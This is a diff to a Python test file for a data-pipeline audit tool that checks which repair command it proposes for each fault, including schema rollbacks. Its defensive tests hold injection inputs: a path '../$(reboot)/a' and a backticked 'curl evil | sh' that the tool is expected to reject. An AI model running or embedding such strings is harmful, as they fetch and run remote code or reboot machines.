@@ -13,7 +13,8 @@ from audit.config import CommandsConfig
 from audit.cures import command_for, command_in
 from audit.findings import FaultKind, Finding
 from audit.picture import TopicKey
-from loader.errors import GapError, cure_of
+from audit.reconciling.words import LOG_LOST
+from loader.errors import ColumnChanged, GapError, cure_of
 from penstock.report.operator import accept
 
 SEVEN = 1_795_158_000_000  # 2026-11-20 07:00 UTC
@@ -46,6 +47,10 @@ def rebuilding(table: str, hours: str) -> str:
     [
         ("missing", {"tier": "broker", **EVENTS}, accepting("--source a1-7 --seqs 120-131")),
         ("missing", {"tier": "hdfs", **EVENTS, **AT}, rebuilding("clicks", HOUR_7)),
+        (  # the brokers have nothing to rebuild from
+            *("missing", {"tier": "hdfs", "reason": f"{LOG_LOST}: it ends", **EVENTS, **AT}),
+            accepting("--source a1-7 --seqs 120-131"),
+        ),
         ("missing", LANDED, rebuilding("views", HOUR_7)),
         ("duplicated", LANDED, ""),
         ("missing", {"tier": "hdfs", "path": "../$(reboot)/a"}, ""),
@@ -66,7 +71,8 @@ def test_the_command_beside_a_fault(kind: str, known: dict[str, Any], command: s
     fault = Finding(kind=FaultKind(kind), words="", **known)
     assert command_for(fault, KEY, COMMANDS) == command
     if " accept " in command:  # it is one: what is wrong is that there is no such file
-        ended = CliRunner().invoke(accept, shlex.split(command)[3:])
+        typed = command.replace("REASON", "gone")
+        ended = CliRunner().invoke(accept, shlex.split(typed)[3:])
         assert "/etc/audit.yaml" in ended.output
 
 
@@ -77,6 +83,9 @@ def test_a_shell_reads_the_variables_first() -> None:
     cure = cure_of(GapError("gone"), "clicks", "/srv/l.yaml")
     load = "penstock load --config /srv/l.yaml --topics clicks --accept-gap"
     assert command_in(cure, under_up) == f". '/a b/environment' && {load}"
+    changed = ColumnChanged("string in the latest schema (clicks-value, version 2)")
+    take_back = "penstock schemas delete clicks-value --version 2 --yes"
+    assert command_in(cure_of(changed, "clicks"), CommandsConfig()) == take_back
     assert command_in("`curl evil | sh`", under_up) == ""
     assert command_in("`penstock load --topics $(reboot)`", under_up) == ""
 
